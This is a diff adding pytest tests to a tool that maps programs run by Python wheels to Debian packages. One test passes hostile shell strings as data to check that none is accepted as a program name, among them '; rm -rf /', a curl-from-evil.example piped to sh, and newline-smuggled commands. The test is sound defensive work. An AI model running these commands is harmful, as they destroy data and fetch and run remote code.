@@ -12,8 +12,10 @@ from support.plans import plan_for
 from support.wheelfactory import make_wheel
 
 from builder.analysis.debian import added_size, package_for_program, program_table
-from builder.analysis.programs import program_name, scan_source, scan_sources
+from builder.analysis.program_names import program_name
+from builder.analysis.programs import scan_source, scan_sources
 from builder.analysis.target import ARCHES, shipped_facts
+from builder.errors import UserError
 
 PURE = "py3-none-any"
 
@@ -144,11 +146,79 @@ def test_a_runner_helper_of_a_sibling_module_and_its_constants() -> None:
     assert [(site.path, site.names) for site in sites] == [("viz/backend/rendering.py", ("dot",))]
 
 
+def test_a_runner_re_exported_by_its_package() -> None:
+    """ocrmypdf's shape: `run` defined in pkg/subprocess/_run.py, re-exported by the package's
+    __init__, called from a module that imports it from the package."""
+    files = {
+        "ocr/subprocess/__init__.py": b"from ocr.subprocess._run import run\n",
+        "ocr/subprocess/_run.py": b"from subprocess import run as subprocess_run\n"
+        b"def run(args, *, check=False):\n    return subprocess_run(args, check=check)\n",
+        "ocr/_exec/tesseract.py": b"from ocr.subprocess import run\n"
+        b"def base_args():\n    args = ['tesseract']\n    return args\n"
+        b"def langs():\n    return run(base_args() + ['--list-langs'])\n",
+    }
+    sites = scan_sources(files, files.__getitem__)
+    assert [(site.path, site.names) for site in sites] == [
+        ("ocr/_exec/tesseract.py", ("tesseract",))
+    ]
+
+
 def test_program_names() -> None:
     assert program_name("/usr/bin/pdftoppm") == "pdftoppm"
     assert program_name("gs.exe") == "gs"
+    assert program_name("g++") == "g++" and program_name("x86_64-linux-gnu-gcc") is not None
     assert program_name("-v") is None and program_name("") is None
     assert program_name("{placeholder}") is None
+    assert program_name("123") is None  # a number is no program
+    assert program_name("x" * 200) is None
+
+
+def test_a_flag_passed_to_a_helper_is_no_program() -> None:
+    """statsmodels' x13: a bool bound to a helper's parameter read as the program `False`."""
+    source = """\
+import subprocess
+def find(path=None, prefer_x13=True):
+    return prefer_x13
+def flag(strict=None):
+    return strict
+subprocess.Popen([find(None, False), 'spec'])
+subprocess.Popen([find(prefer_x13=True)])
+subprocess.Popen([flag()])
+subprocess.Popen([flag(7)])
+"""
+    assert names(source) == []
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "; rm -rf /",
+        "$(curl evil.example | sh)",
+        "`id`",
+        "a b; c",
+        "../../bin/sh\\x",
+        "'; touch /x'",
+        "pdftoppm\n; id",
+    ],
+)
+def test_a_hostile_name_never_becomes_a_program(command: str) -> None:
+    """A wheel's string reaches the index lookup, the plan and verification's program runs only
+    as a plain file name (letters, digits, `._+-`): shell syntax is no program."""
+    for source in (f"os.system({command!r})", f"subprocess.run([{command!r}, '-v'])"):
+        found = names(f"import os, subprocess\n{source}\n")
+        assert all(program_name(name) == name for group in found for name in group), found
+        assert not [n for g in found for n in g if set(n) & set(";$`'| /\n\\")], found
+
+
+def test_env_and_shell_builtins_are_not_the_program() -> None:
+    source = """\
+import os, subprocess
+subprocess.run(['env', 'LANG=C', 'dot', '-V'])
+subprocess.run('/usr/bin/env -i PATH=/usr/bin pdftoppm -v', shell=True)
+os.system('unset DISPLAY; true')
+"""
+    assert names(source) == [("dot",), ("pdftoppm",), ("unset",)]
+    assert "unset" in program_table().provided  # the shell's: never a package
 
 
 def test_the_index_maps_programs_to_packages_on_both_arches() -> None:
@@ -286,6 +356,64 @@ def test_a_left_out_program_warns_and_is_not_installed(tmp_path: Path) -> None:
         " run it, what needs it will fail in the image",
     )
     assert {need.program for need in plan.installed_programs()} == {"pdfinfo", "pdftoppm"}
+
+
+def test_an_unknown_name_left_out_is_refused_and_an_unused_one_warned(tmp_path: Path) -> None:
+    """An operator's typo must not leave ffmpeg in silently; a real name nothing runs is said."""
+    pdfwrap = wheel(tmp_path, "pdfwrap", {"pdfwrap/__init__.py": WRAPPER})
+    with pytest.raises(UserError, match="'ffmepg' is neither a program nor a package Debian 13"):
+        plan_for(tmp_path, [pdfwrap], without=frozenset({"ffmepg"}))
+    plan = plan_for(tmp_path, [pdfwrap], without=frozenset({"ffmpeg"}))
+    assert plan.apt_packages == ("poppler-utils",)
+    assert plan.warnings == (
+        "warning: without-programs: nothing in the set runs ffmpeg; leaving it out changes nothing",
+    )
+
+
+@pytest.mark.parametrize(
+    ("name", "files", "required", "optional"),
+    [
+        (  # pycparser: cpp only when asked to preprocess
+            "pycparser",
+            {
+                "pycparser/__init__.py": b"import subprocess\n"
+                b"def preprocess_file(f, cpp_path='cpp'):\n"
+                b"    return subprocess.check_output([cpp_path, f])\n",
+                "pycparser/c_parser.py": b"x = 1\n",
+            },
+            (),
+            ("cpp",),
+        ),
+        (  # gitpython: git runs through an attribute reading cannot follow
+            "gitpython",
+            {"git/cmd.py": b"import subprocess\nsubprocess.Popen(['ps', '--ppid'])\n"},
+            ("git",),
+            ("procps",),
+        ),
+    ],
+)
+def test_curated_entries_correct_the_share_rule(
+    tmp_path: Path,
+    name: str,
+    files: dict[str, bytes],
+    required: tuple[str, ...],
+    optional: tuple[str, ...],
+) -> None:
+    plan = plan_for(tmp_path, [wheel(tmp_path, name, files)])
+    assert plan.apt_packages == required
+    assert plan.optional_packages == optional
+    assert all(need.why.startswith("curated: ") for need in plan.programs)
+
+
+def test_a_run_in_a_module_for_another_system_is_optional(tmp_path: Path) -> None:
+    """psutil's shape: its one run (lsdev) is in the AIX module of ten; the share rule alone
+    would install procinfo."""
+    files = {f"psu/_ps{n}.py": b"x = 1\n" for n in ("linux", "posix", "common", "windows")}
+    files["psu/_psaix.py"] = b"import subprocess\nsubprocess.Popen(['lsdev', '-Cc'])\n"
+    plan = plan_for(tmp_path, [wheel(tmp_path, "psu", files)])
+    assert plan.apt_packages == () and plan.optional_packages == ("procinfo",)
+    files["psu/_pslinux.py"] = files.pop("psu/_psaix.py")
+    assert plan_for(tmp_path, [wheel(tmp_path, "psu", files)]).apt_packages == ("procinfo",)
 
 
 def test_a_curated_entry_decides(tmp_path: Path) -> None:
